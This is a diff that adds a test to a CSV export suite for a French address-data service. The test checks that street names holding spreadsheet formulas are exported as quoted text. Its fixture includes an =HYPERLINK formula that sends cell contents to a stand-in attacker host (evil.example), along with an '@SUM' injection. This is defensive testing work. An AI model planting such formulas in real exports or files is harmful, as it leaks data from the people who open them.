@@ -5,7 +5,7 @@ import { db } from "@/lib/db/client";
 import { runImport } from "@/lib/import/run-import";
 import { toReferenceData } from "@/lib/reference/decoupage";
 import { loadReferenceData } from "@/lib/reference/load-reference-data";
-import { BAN_HEADER, IPE_HEADER, banLine, ipeLine, writeImportFile } from "@/lib/testing/import-files";
+import { BAL_13_HEADER, BAN_HEADER, IPE_HEADER, bal13Line, banLine, ipeLine, writeImportFile } from "@/lib/testing/import-files";
 import { validated } from "@/lib/testing/openapi";
 import { referenceFixture } from "@/lib/testing/reference-fixture";
 import { GET as getCsv } from "./availability.csv/route";
@@ -63,6 +63,22 @@ describe("exports", () => {
     const text = await (await call(getCsv, "/api/v1/exports/availability.csv", "?commune=01002")).text();
     const [row] = parse(text, { delimiter: ";", columns: true, bom: true }) as Record<string, string>[];
     expect(row!.voie).toBe('Place du Pese "Lait"');
+  });
+
+  it("writes spreadsheet formulas from a BAL's voie_nom as text, plain numbers as numbers", async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")';
+    const imported = await runImport("bal", writeImportFile("bal-76575.csv", [
+      BAL_13_HEADER,
+      bal13Line({ cle: "76575_0010_00001", voie: `"${hyperlink.replace(/"/g, '""')}"`, numero: "1", long: "-4.4861", lat: "45.4771" }),
+      bal13Line({ cle: "76575_0011_00002", voie: "@SUM(1+1)", numero: "2", long: "4.5021", lat: "45.4772" }),
+    ]), { triggeredBy: "test" });
+    expect(imported.counts).toMatchObject({ created: 2, rejected: 0 });
+    const text = await (await call(getCsv, "/api/v1/exports/availability.csv", "?commune=76575")).text();
+    const rows = parse(text, { delimiter: ";", columns: true, bom: true }) as Record<string, string>[];
+    expect(rows.map((row) => row.voie)).toEqual([`'${hyperlink}`, "'@SUM(1+1)"]);
+    expect(rows.map((row) => row.libelle)).toEqual([`1 ${hyperlink}, 76800 Bourg-en-Bresse`, "2 @SUM(1+1), 76800 Bourg-en-Bresse"]);
+    expect(rows[0]!.lon).toBe("-4.4861");
+    for (const line of text.split("\n").slice(1)) expect(line).not.toMatch(/(^|;)"?[=@+]/);
   });
 
   it("streams GeoJSON with its metadata: licence, sources and dates, generation date", async () => {
